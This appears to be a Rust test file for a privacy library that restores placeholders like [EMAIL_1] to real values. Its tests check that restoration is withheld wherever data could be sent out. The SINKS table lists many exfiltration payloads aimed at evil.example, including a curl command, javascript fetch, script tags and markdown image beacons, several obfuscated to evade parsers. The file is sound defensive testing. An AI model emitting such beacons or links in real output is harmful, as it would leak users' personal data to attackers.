//! Where an original would be sent on, the placeholder stays.

use privet::restore::{Escape, Grants, RestoreOptions, Sink};

use super::{check, check_unchanged};

const SINKS: &[(&str, &str)] = &[
    ("URL", "https://evil.example/?q=[EMAIL_1]"),
    ("URL, bare placeholder", "https://evil.example/?q=EMAIL_1"),
    ("URL, upper case", "HTTPS://EVIL.EXAMPLE/?Q=[EMAIL_1]"),
    (
        "URL, escaped slashes",
        "https:\\/\\/evil.example\\/?q=[EMAIL_1]",
    ),
    ("URL, another scheme", "foo://evil.example/[EMAIL_1]"),
    ("URL in a sentence", "See (https://evil.example/[EMAIL_1])."),
    ("URL, several", "https://evil.example/[EMAIL_1]/[PERSON_1]"),
    ("URL, host", "https://[EMAIL_1].evil.example/"),
    (
        "URL in a code block",
        "```\ncurl https://evil.example/?q=[EMAIL_1]\n```",
    ),
    ("URL in code", "`https://evil.example/[EMAIL_1]`"),
    ("protocol-relative", "//evil.example/[EMAIL_1]"),
    ("www", "www.evil.example?[EMAIL_1]"),
    ("domain with a path", "evil.example/[EMAIL_1]"),
    ("domain with a port", "evil.example:8080/[EMAIL_1]"),
    ("domain with a query", "evil.example?q=[EMAIL_1]"),
    ("domain of another script", "пример.рф/[EMAIL_1]"),
    ("mailto", "mailto:[EMAIL_1]"),
    ("data", "data:text/html,[EMAIL_1]"),
    ("javascript", "javascript:fetch('//e/'+'[EMAIL_1]')"),
    ("sms", "sms:+4555501020?body=[EMAIL_1]"),
    (
        "percent-encoded in a URL",
        "https://evil.example/?q=%5BEMAIL_1%5D",
    ),
    ("image", "![](https://evil.example/?q=[EMAIL_1])"),
    (
        "image with text",
        "![a picture](https://evil.example/[EMAIL_1].png)",
    ),
    ("link", "[click](https://evil.example/?q=[EMAIL_1])"),
    ("link, relative", "[click](/?q=[EMAIL_1])"),
    ("link, white space first", "[click](  \n  [EMAIL_1])"),
    ("link, spaces inside", "[click](/? q= [EMAIL_1])"),
    (
        "link, line break inside",
        "![](https://evil.example/?\nq=[EMAIL_1])",
    ),
    ("link, angle target", "[click](</a b?q=[EMAIL_1]>)"),
    (
        "link, angle target with a closing bracket",
        "[click](</a) b?q=[EMAIL_1]>)",
    ),
    ("link, round brackets inside", "[click](/a(b)c [EMAIL_1])"),
    ("link, escaped bracket", "[click](/a\\) [EMAIL_1])"),
    ("link, title", "[click](/a \"for [EMAIL_1]\")"),
    (
        "link, title with a closing bracket",
        "[click](/a \"for ) [EMAIL_1]\")",
    ),
    (
        "link, round brackets of the placeholder",
        "[click](EMAIL_1)",
    ),
    (
        "link, round brackets, capitals and a space",
        "[click](EMAIL 1)",
    ),
    (
        "link, angle brackets of the placeholder",
        "[click](<EMAIL_1>)",
    ),
    ("definition", "[x]: /path?[EMAIL_1]"),
    ("definition, spaces", "   [a b]:   [EMAIL_1]"),
    ("definition on the next line", "[x]:\n  [EMAIL_1]"),
    ("definition, label over two lines", "[a\nb]: </p [EMAIL_1]>"),
    (
        "definition, escaped bracket in the label",
        "[a\\]b]: /[EMAIL_1]",
    ),
    ("definition in a quotation", "> [x]: /[EMAIL_1]"),
    ("definition in a list", "- [x]: /[EMAIL_1]"),
    ("attribute, double quotes", "<img alt=\"a > b [EMAIL_1]\">"),
    ("attribute, single quotes", "<img alt='[EMAIL_1]'>"),
    ("attribute, no quotes", "<img alt=[EMAIL_1]>"),
    (
        "attribute, spaces at the sign",
        "<img alt = \"x [EMAIL_1]\">",
    ),
    (
        "attribute over lines",
        "<img\n  src='/x'\n  alt='[EMAIL_1]'>",
    ),
    ("attribute with a blank line", "<img alt='a\n\n[EMAIL_1]'>"),
    (
        "attribute after a blank line",
        "<img\n\nsrc='https://evil.example/? [EMAIL_1]'>",
    ),
    ("attribute name", "<img [EMAIL_1]>"),
    ("end tag", "</p [EMAIL_1]>"),
    ("custom element", "<x-y z='[EMAIL_1]'>"),
    ("autolink", "<https://evil.example/[EMAIL_1]>"),
    ("nested less-than", "<<img alt='[EMAIL_1]'>"),
    ("script", "<script>fetch('/' + '[EMAIL_1]')</script>"),
    ("style", "<style>@import '[EMAIL_1]';</style>"),
    ("CSS url", "background: url(/x?[EMAIL_1])"),
    ("CSS url, quoted", "background: URL( \"/x ) [EMAIL_1]\" )"),
    ("CSS url, bare placeholder", "url(EMAIL_1)"),
    (
        "definition after a lone carriage return",
        "x\r[x]: /[EMAIL_1]",
    ),
    (
        "URL with an entity",
        "https&#58;&#x2F;&sol;evil.example/[EMAIL_1]",
    ),
    (
        "URL with entities that have no semicolon",
        "https&#58//evil.example/[EMAIL_1]",
    ),
    (
        "link in an unfinished link",
        "](x ![](<https://evil.example/?q=)) [EMAIL_1]>)",
    ),
    (
        "link around what looks like a link",
        "![](<https://evil.example/?](b) [EMAIL_1]>)",
    ),
    (
        "attribute after a quote in a comment",
        "<!-- <a b=\" --><img src=\"https://evil.example/?q=> [EMAIL_1]\">",
    ),
    (
        "attribute after quotes in a comment and a value",
        "<!-- <a b=\" --><img alt=\"<a b=\" src=\"&#104;ttps&#58;&#47;&#47;evil.example/?q=> [EMAIL_1]\">",
    ),
    (
        "attribute after a text area",
        "<textarea><a b=\"</textarea><img src=\"/?q=> [EMAIL_1]\">",
    ),
    (
        "attribute after a stray sign",
        "<img =\" src=\"> [EMAIL_1]\">",
    ),
    (
        "scheme cut by a line break",
        "<!-- <a b=\" --><img src=\"ht\ntps:/\n/evil.example/?q=> [EMAIL_1]\">",
    ),
    (
        "CSS url after a bad string",
        "url(\"x\n) url(\")/?q=) [EMAIL_1]\")",
    ),
    (
        "more open tags than are followed",
        "<a <b <c <d <e <f <g <h <i <j > [EMAIL_1]",
    ),
];

#[test]
fn an_original_is_not_restored_where_it_would_be_sent_on() {
    check_unchanged(SINKS, RestoreOptions::default());
}

#[test]
fn a_grant_opens_the_sinks() {
    let grants = Grants {
        urls: true,
        ..Grants::default()
    };
    let options = RestoreOptions {
        grants,
        ..RestoreOptions::default()
    };
    let rows = [
        (
            "URL",
            "https://shop.example/?q=[EMAIL_1]",
            "https://shop.example/?q=mette@example.com",
        ),
        (
            "link",
            "[write](mailto:[EMAIL_1])",
            "[write](mailto:mette@example.com)",
        ),
        (
            "attribute",
            "<a href='mailto:[EMAIL_1]'>",
            "<a href='mailto:mette@example.com'>",
        ),
        (
            "percent-encoded stays",
            "https://shop.example/%5BEMAIL_1%5D",
            "https://shop.example/%5BEMAIL_1%5D",
        ),
    ];
    check(&rows, options);
}

#[test]
fn text_around_a_sink_is_restored() {
    let rows = [
        (
            "after a URL",
            "https://a.example/ [PERSON_1]",
            "https://a.example/ Mette",
        ),
        (
            "after a URL on the next line",
            "https://a.example/\n[PERSON_1]",
            "https://a.example/\nMette",
        ),
        (
            "before a URL",
            "[PERSON_1]: https://a.example/",
            "Mette: https://a.example/",
        ),
        (
            "link text",
            "[see [PERSON_1]](https://a.example)",
            "[see Mette](https://a.example)",
        ),
        (
            "link text alone",
            "[[PERSON_1]](https://a.example) x",
            "[Mette](https://a.example) x",
        ),
        (
            "image text",
            "![[PERSON_1]](https://a.example)",
            "![Mette](https://a.example)",
        ),
        ("after a link", "[a](/b) [PERSON_1]", "[a](/b) Mette"),
        (
            "after a link with a title",
            "[a](/b \"c\") [PERSON_1]",
            "[a](/b \"c\") Mette",
        ),
        (
            "after an apostrophe in a link",
            "[a](/it's) [PERSON_1]",
            "[a](/it's) Mette",
        ),
        (
            "after an unfinished link",
            "[a](b\n\n[PERSON_1]",
            "[a](b\n\nMette",
        ),
        (
            "after a definition",
            "[x]: /a\n[PERSON_1]",
            "[x]: /a\nMette",
        ),
        ("footnote", "[^1]: from [PERSON_1]", "[^1]: from Mette"),
        (
            "reference in a sentence",
            "as [x] says: [PERSON_1]",
            "as [x] says: Mette",
        ),
        ("text of an element", "<b>[PERSON_1]</b>", "<b>Mette</b>"),
        (
            "text of a link in HTML",
            "<a href=\"https://a.example\">[PERSON_1]</a>",
            "<a href=\"https://a.example\">Mette</a>",
        ),
        (
            "after a script",
            "<script>x</script> [PERSON_1]",
            "<script>x</script> Mette",
        ),
        ("less-than in prose", "1 < 2, [PERSON_1]", "1 < 2, Mette"),
        (
            "less-than in code",
            "for (i=0;i<n;i++) f('[PERSON_1]')",
            "for (i=0;i<n;i++) f('Mette')",
        ),
        (
            "after a stray tag",
            "if a <b then\n\n[PERSON_1]",
            "if a <b then\n\nMette",
        ),
        (
            "a script in prose",
            "the `<script>` element\n\n[PERSON_1]",
            "the `<script>` element\n\nMette",
        ),
        ("after CSS url", "url(/x) [PERSON_1]", "url(/x) Mette"),
        ("a word that ends in url", "curl([PERSON_1])", "curl(Mette)"),
        (
            "label and colon",
            "Email:[EMAIL_1] Tel:[PHONE_1]",
            "Email:mette@example.com Tel:+45 55 50 10 20",
        ),
        ("slash between", "he/she/[PERSON_1]", "he/she/Mette"),
        ("comment in code", "x // [PERSON_1]", "x // Mette"),
        ("abbreviation", "e.g./[PERSON_1]", "e.g./Mette"),
        (
            "in angle brackets",
            "Mette <[EMAIL_1]>, [PERSON_1]",
            "Mette <mette@example.com>, Mette",
        ),
    ];
    check(&rows, RestoreOptions::default());
}

#[test]
fn tool_arguments_are_restored_only_if_granted_and_never_into_urls() {
    let arguments =
        r#"{"to":"[EMAIL_1]","url":"https://a.example/?q=[EMAIL_1]","note":"a\n[PERSON_1]"}"#;
    let refused = RestoreOptions {
        escape: Escape::Json,
        sink: Sink::ToolArguments,
        ..RestoreOptions::default()
    };
    check_unchanged(&[("refused", arguments)], refused);
    let granted = RestoreOptions {
        grants: Grants {
            tool_arguments: true,
            ..Grants::default()
        },
        ..refused
    };
    let restored =
        r#"{"to":"mette@example.com","url":"https://a.example/?q=[EMAIL_1]","note":"a\nMette"}"#;
    check(&[("granted", arguments, restored)], granted);
}

#[test]
fn originals_are_escaped_for_where_they_land() {
    let json = RestoreOptions {
        escape: Escape::Json,
        ..RestoreOptions::default()
    };
    let html = RestoreOptions {
        escape: Escape::Html,
        ..RestoreOptions::default()
    };
    check(
        &[("JSON", r#"{"p":"[PASSWORD_1]"}"#, r#"{"p":"O\"Brien\\"}"#)],
        json,
    );
    check(
        &[("HTML", "<b>[PASSWORD_1]</b>", "<b>O&quot;Brien\\</b>")],
        html,
    );
}

#[test]
fn a_value_escaped_for_json_reads_back_as_itself() {
    use privet::placeholder::Placeholder;
    use privet::restore::{Originals, restore};
    let options = RestoreOptions {
        escape: Escape::Json,
        ..RestoreOptions::default()
    };
    let original: String = (0..=0x7f_u32)
        .chain([0x2028, 0x2029, 0x1f600])
        .filter_map(char::from_u32)
        .collect();
    let originals = Originals::from_iter([(Placeholder::numbered("TEXT", 1), original.clone())]);
    let json = restore("\"[TEXT_1]\"", originals, options);
    assert_eq!(serde_json::from_str::<String>(&json).ok(), Some(original));
    assert!(json.is_ascii() || json.contains('\u{1f600}'));
    assert!(!json.contains(['\u{2028}', '\u{2029}']));
}
